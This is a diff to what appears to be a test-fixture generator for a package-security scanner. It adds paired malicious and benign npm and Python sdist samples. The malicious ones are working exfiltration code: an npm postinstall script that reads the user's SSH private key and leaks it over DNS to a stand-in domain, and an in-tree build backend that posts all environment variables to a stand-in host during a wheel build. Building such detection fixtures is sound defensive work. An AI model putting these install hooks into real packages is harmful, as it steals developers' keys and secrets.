@@ -109,3 +109,54 @@ wheel("benign/wheels/platnative-1.0-cp311-cp311-manylinux_2_17_x86_64.whl", "pla
       [("platnative/__init__.py", ""), ("platnative/_ext.so", elf)])
 wheel("benign/wheels/purepy-1.0-py3-none-any.whl", "purepy", "py3-none-any",
       [("purepy/__init__.py", "VERSION = '1.0'\n")])
+
+
+# Install scripts that hand the work to a file of the package. The first
+# does what torchtriton did: read home-folder secrets and send them out
+# over DNS, from a file "postinstall": "node install.js" runs.
+package_json("malicious/node_modules/dns-npm/package.json", "dns-npm", {"postinstall": "node install.js"})
+write("malicious/node_modules/dns-npm/install.js", """// Collects host details at install.
+const dns = require('dns');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
+const label = Buffer.from(key).toString('hex').slice(0, 60);
+dns.resolve(label + '.exfil.invalid', () => {});
+""")
+package_json("benign/node_modules/banner/package.json", "banner", {"postinstall": "node ./scripts/thanks"})
+write("benign/node_modules/banner/scripts/thanks.js", """// Prints a thank-you note; see https://example.invalid/docs for more.
+console.log('Thanks for installing banner!');
+""")
+# An in-tree build backend (pyproject.toml backend-path) that posts the
+# environment when the sdist is built.
+write("malicious/sdist/backendpkg-1.0/PKG-INFO", pkg_info("backendpkg"))
+write("malicious/sdist/backendpkg-1.0/pyproject.toml", """[build-system]
+requires = []
+build-backend = "backend"
+backend-path = ["_build"]
+""")
+write("malicious/sdist/backendpkg-1.0/_build/backend.py", """import json
+import os
+import urllib.request
+
+from setuptools import build_meta as _orig
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    urllib.request.urlopen("https://collect.invalid/", data=json.dumps(dict(os.environ)).encode())
+    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
+
+get_requires_for_build_wheel = _orig.get_requires_for_build_wheel
+""")
+write("benign/sdist/localbackend-1.0/PKG-INFO", pkg_info("localbackend"))
+write("benign/sdist/localbackend-1.0/pyproject.toml", """[build-system]
+requires = ["setuptools>=68"]
+build-backend = "_custom_build"
+backend-path = ["."]
+""")
+write("benign/sdist/localbackend-1.0/_custom_build.py", """from setuptools import build_meta as _orig
+from setuptools.build_meta import *
+
+def get_requires_for_build_wheel(config_settings=None):
+    return _orig.get_requires_for_build_wheel(config_settings) + ["cython>=3"]
+""")
